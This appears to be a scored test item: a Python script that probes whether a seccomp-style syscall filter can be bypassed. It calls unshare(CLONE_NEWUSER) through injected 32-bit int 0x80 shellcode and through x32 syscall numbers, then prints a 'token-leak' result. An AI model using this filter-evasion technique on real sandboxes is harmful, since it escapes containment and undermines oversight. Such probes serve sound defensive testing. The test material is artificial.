"""Makes system calls by the numbers of other architectures (32 bits, x32), which a filter may not know.

Deserves: 1 or 2 points, as the kernel may end its process.
Side effect: leak.
"""

import ctypes
import mmap
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)


def run(code):
    """What machine code returns that is called as a function without arguments, in a process of its own."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        page = mmap.mmap(-1, mmap.PAGESIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
        page.write(code)
        place = ctypes.addressof(ctypes.c_char.from_buffer(page))
        os.write(write, str(ctypes.CFUNCTYPE(ctypes.c_int)(place)()).encode())
        os._exit(0)
    os.close(write)
    os.waitpid(pid, 0)
    return os.read(read, 20).decode()


if platform.machine() == "x86_64":
    unshare_32 = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"  # unshare(CLONE_NEWUSER) by int 0x80
    libc.syscall.restype = ctypes.c_long
    made = {"int 0x80": run(unshare_32) == "0"}
    if (pid := os.fork()) == 0:
        os._exit(libc.syscall(0x40000000 + 272, 0x10000000) == 0 and 7)  # x32
    made["x32"] = os.waitpid(pid, 0)[1] >> 8 == 7
    if any(made.values()):
        print("token-leak:", made)


def guess():
    return "wrong"


numbers = guess
